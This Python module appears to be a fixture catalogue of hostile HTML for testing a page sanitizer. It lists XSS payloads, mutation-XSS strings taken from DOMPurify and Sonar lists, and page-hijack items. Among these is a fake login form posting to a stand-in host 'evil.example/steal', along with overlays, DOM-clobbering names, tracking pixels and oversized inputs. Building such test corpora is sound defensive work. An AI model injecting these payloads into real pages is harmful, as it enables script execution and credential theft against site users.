# ruff: noqa: E501
"""HTML of items that attack the page which shows them, by what each one tries. No test is in here.

A script that runs calls `alert` and sets `ran`; whatever is requested names FAR. Many of the mutations are from the
lists of DOMPurify (https://github.com/cure53/DOMPurify/blob/main/test/fixtures/expect.mjs) and of Sonar
(https://sonarsource.github.io/mxss-cheatsheet/).
"""

from html import escape

FAR = "https://evil.example"
RUN = "top.ran=1,alert(1)"
_IMG = f"<img src=x onerror={RUN}>"
_QUOTED = escape(_IMG)
_COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script of another host": f"<script src={FAR}/x.js></script><script type=module src={FAR}/y.js></script>",
    "script in a comment that ends early": f"<!--><script>{RUN}</script>--><!---><script>{RUN}</script>-->",
    "script without end": f"<script>{RUN}",
    "script in broken tags": f"<scr<script>ipt>{RUN}</scr</script>ipt><<script>{RUN}//<</script>",
    "script with a slash": f"<script/x>{RUN}</script\t\n bar>",
    "script that ends our page": f"</div></article></main></body></html><script>{RUN}</script>",
    "event attributes": "".join(
        f"<{tag} {event}={RUN} tabindex=1 autofocus>x</{tag}>"
        for tag, event in (
            ("p", "onmouseover"), ("div", "onfocus"), ("b", "onpointerenter"), ("details open", "ontoggle"),
            ("div style=animation-name:x", "onanimationstart"), ("marquee", "onstart"), ("body", "onload"),
            ("xss", "onfocus"), ("div contenteditable", "onfocus"), ("p", "onbeforematch"),
        )
    ),
    "events of media": f"{_IMG}<video onerror={RUN} src=x></video><audio oncanplay={RUN}><source onerror={RUN}></audio>"
    f"<img/src=x/onerror={RUN}><img src=x:x onerror\n=\n{RUN}><image src=x onerror={RUN}>",
    "javascript links": "".join(
        f"<a href=\"{address}\">x</a>"
        for address in (
            f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}",
            f"&#106;avascript&colon;{RUN}", f"javascript&#58;{RUN}", f"vbscript:{RUN}", f" javascript:{RUN}",
            f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            f"blob:{FAR}/1", "file:///etc/passwd", f"feed:javascript:{RUN}", f"view-source:{FAR}",
        )
    ),
    "javascript in other addresses": f"<img src=javascript:{RUN}><iframe src=javascript:{RUN}></iframe>"
    f"<form action=javascript:{RUN}><button>x</button></form><button formaction=javascript:{RUN}>x</button>"
    f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}><base href=javascript:{RUN}//>"
    f"<link rel=stylesheet href=javascript:{RUN}><table background=javascript:{RUN}><td>x</table>",
    "images of data": f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>'>",
    "svg with script": f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s>"
    f"<a xlink:href=javascript:{RUN}><text y=20>x</text></a><use href='data:image/svg+xml,x#x'/>"
    f"<image href={FAR}/i.png /><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg that sets a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>"
    f"<set attributeName=onmouseover to={RUN} /></svg>",
    "math": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction><mi href=javascript:{RUN}>y",
    "frames": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src={FAR}></iframe><frameset onload={RUN}>"
    f"<frame src={FAR}></frameset><object data={FAR}/o><param name=src value={FAR}></object><embed src={FAR}/e>"
    f"<portal src={FAR}></portal><applet code={FAR}></applet><fencedframe></fencedframe>",
}  # fmt: skip

PAGES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}/refresh'><META HTTP-EQUIV='refresh' CONTENT='0;URL=/login'>",
    "base": f"<base href={FAR}/ target=_top><a href=/x>x</a><img src=/y.png>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"
    "<meta name=referrer content=unsafe-url>",
    "form": f"<form action={FAR}/steal method=post id=marks><input name=password autofocus><button>Log in</button></form>"
    f"<input form=marks formaction={FAR} type=submit><textarea form=marks>x</textarea><select form=marks><option>x",
    "form around the rest of the page": f"</div></article><form action={FAR}/steal><button>Mark all read</button>",
    "style": f"<style>*{{display:none!important}} @import '{FAR}/a.css'; body{{background:url({FAR}/b.png)}}</style>"
    f"<link rel=stylesheet href={FAR}/c.css><link rel=preload as=image href={FAR}/d><link rel=prefetch href={FAR}/e>"
    f"<link rel=dns-prefetch href={FAR}><link rel=icon href={FAR}/f.ico><link rel=manifest href={FAR}/m>",
    "style without end": "<p>seen</p><style>*{display:none!important}",
    "cover": f"<div style='{_COVER}'>Log in again</div><a href={FAR} style='{_COVER};opacity:0'>x</a>"
    f"<center style='margin:-9999px;padding:9999px'><a href={FAR}>x</a></center>",
    "our own classes": "<div class='top skip say'>x</div><p class=say>x</p><nav class=column>x</nav><ol id=entries class=entries>"
    "<li class='entry unread' id=i-1 data-id=1 data-of=a>x</ol><dialog open class=keys>x</dialog><div popover>x</div>",
    "names of our script": "<img name=body><a id=list><a id=list name=dataset><form id=say name=getElementById><input id=cookie>"
    "<img name=currentScript><p id=main>x</p><p id=marks>x</p><iframe name=top></iframe>",
    "a wide table and a long word": f"<table width=99999><tr><td>{'x' * 3_000}</table><p>{'y' * 3_000}</p>"
    f"<pre>{'z' * 3_000}</pre><img width=9999 height=9999 src=/w.png>",
    "letters that tower": f"<p>{'Z' + chr(0x0300) * 600} {'a' + chr(0x0351) * 600}</p>" * 5,
    "turned text": "<bdo dir=rtl>txet</bdo>\u202e\u2066 turned <p dir=rtl>\u202eright</p>" + "\u202b" * 200,
    "ends of our tags": "</div>" * 50 + "</article></main></div></body></html><p>outside</p>" + "</ol></li>" * 9,
    "tags that swallow the page": "<p>before</p><textarea><title><xmp><plaintext><noscript><template><select><!-- <![CDATA[",
    "a comment without end": "<p>before</p><!-- ",
    "an attribute without end": f"<p>before</p><a href=\"{FAR}/?",
    "an image that takes the rest of the page": f"<p>before</p><img src='{FAR}/?",
    "foreign media": f"<img src={FAR}/a.png><img srcset='{FAR}/b.png 2x'><picture><source srcset={FAR}/c.png></picture>"
    f"<video src={FAR}/d.mp4 poster={FAR}/e.png autoplay preload=auto></video><audio src={FAR}/f.mp3 autoplay preload=auto>"
    f"</audio><video autoplay><source src={FAR}/g.mp4><track default src={FAR}/h.vtt></video><img lowsrc={FAR}/i.png>"
    f"<img data-src={FAR}/j.png loading=lazy><noscript><img src={FAR}/k.png></noscript><input type=image src={FAR}/l.png>"
    f"<table background={FAR}/m.png><td background={FAR}/n.png>x</table><body background={FAR}/o.png>"
    f"<a href={FAR} ping={FAR}/p>x</a><q cite={FAR}/q>x</q><img src=//evil.example/r.png><bgsound src={FAR}/s.mid>"
    f"<img src={FAR}/count.gif width=1 height=1><img usemap=#m src={FAR}/t><map name=m><area href={FAR}></map>",
    "images that look like the archive's": "<img src=/api/images/images/news/1/0.png><img src=/static/x.png><img src=.>"
    "<img src=/logout><img src=http://127.0.0.1:1/x.png>",
    "a link to a window of ours": f"<a href={FAR} target=_top rel=opener>x</a><a href=/logout target=_self>x</a>",
    "250 open tags": "<b><i><u><a href=/x>" * 62 + "<p>x",
    "tags without end by the thousand": "<div>" * 50_000 + f"{_IMG}",
    "formatting that comes again": "<b><big><i><tt>" * 300 + "<p>x" * 3_000,
    "an item of 2 MB": "<p>A sentence of some length. </p>" * 57_000,
    "an item of 900,000 letters": f"<p>{'A sentence of some length. ' * 30}</p>" * 1_100,
    "1,000 images": "".join(f"<p><a href=/p{n}><img src={FAR}/{n}.png alt='Image {n}'></a></p>" for n in range(1_000)),
}  # fmt: skip

MUTATIONS = {
    f"mutation {number}": html
    for number, html in enumerate(
        (
            f"<noscript><p title=\"</noscript>{_IMG}\"></noscript>",
            f"<noscript><style></noscript>{_IMG}</style></noscript>",
            f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{_QUOTED}\">",
            f"<math><mtext><table><mglyph><style><math>{_IMG}</style>",
            f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}</style></mglyph></form>",
            f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{_IMG}\">",
            f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{_IMG}\">",
            f"<svg></p><style><a id=\"</style>{_IMG}\">",
            f"<svg><p><style><a id=\"</style>{_IMG}\"></p></svg>",
            f"<svg><foreignobject><p><style><!--</style><a href=\"-->{_IMG}\">",
            f"<math><annotation-xml encoding=\"text/html\"><style>{_IMG}</style></annotation-xml></math>",
            f"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src='x' onerror={RUN}>\">",
            f"<math><mi><mglyph><style><![CDATA[</style>{_IMG}]]></style></mglyph></mi></math>",
            f"<svg><style><![CDATA[</style>{_IMG}]]></style></svg>",
            f"<svg><desc><style><a title=\"</style>{_IMG}\"></style></desc></svg>",
            f"<svg><title><style><a title=\"</style></title>{_IMG}\"></style></title></svg>",
            f"<table><td><select><style></select>{_IMG}</style>",
            f"<select><template><style><!--</template><a rel=\"--></style>{_IMG}</select>\">",
            f"<select><iframe><select><img src=x: onerror={RUN}>",
            f"<xmp><p id=\"</xmp>{_IMG}\"></xmp>",
            f"<noembed><p id=\"</noembed>{_IMG}\"></noembed><noframes><p id=\"</noframes>{_IMG}\">",
            f"<textarea><a title=\"</textarea>{_IMG}\"></textarea>",
            f"<title><a title=\"</title>{_IMG}\"></title><iframe><a title=\"</iframe>{_IMG}\"></iframe>",
            f"<template>{_IMG}<script>{RUN}</script></template><template shadowrootmode=open>{_IMG}</template>",
            f"<div><template shadowrootmode=open><style>:host{{{_COVER}}}</style>{_IMG}</template></div>",
            f"<![CDATA[{_IMG}]]><?xml {_IMG} ?><!DOCTYPE html [<!ENTITY x '{_QUOTED}'>]>&x;<! {_IMG}>",
            f"<!--!>{_IMG}<!-- --!>{_IMG}--><!-- a --- {_IMG} ---!>",
            f"<p title='`\">{_IMG}'><img src=\"x` `<script>{RUN}</script>\"` `>",
            f"<img src='{FAR}/\"onerror={RUN}//.png'><a href='{FAR}/\"onmouseover={RUN}//'>x</a>",
            f"<a href=\"{FAR}/&quot;&gt;{_QUOTED}\" title=\"&quot;&gt;{_QUOTED}\">&lt;img src=x onerror={RUN}&gt;</a>",
            f"<plaintext>{_IMG}",
            f"<isindex type=image src={FAR}/1 onerror={RUN}><keygen autofocus onfocus={RUN}><command onclick={RUN}>",
            f"<br><br><br><math></br><style><!--</style>{_IMG}-->",
            f"<a><svg><a><style><a title=\"</style>{_IMG}\">",
            f"<table><tr><td><a href={FAR}/1><table><tr><td><a href={FAR}/2>x<img src={FAR}/3.png></table></a></table>",
            f"<p><b><a href={FAR}/1><p><a href={FAR}/2><img src={FAR}/4.png><div></a></b><h2></a>x",
            f"\x01<scr\x01ipt>{RUN}</scr\x01ipt><img src=x on\x01error={RUN}><\x01script>{RUN}</script>",
            f"\ufeff<img\u2028src=x\u2029onerror={RUN}>\u00a0<svg\u000conload={RUN}>＜script＞{RUN}＜/script＞",
            f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-<meta charset=utf-7>",
            "{{constructor.constructor('alert(1)')()}}{% raw %}{{ frame }}{% endraw %}${alert(1)}<p>&#123;&#123; 7*7 }}</p>",
        )
    )
}  # fmt: skip

ATTACKS = {**SCRIPTS, **PAGES, **MUTATIONS}
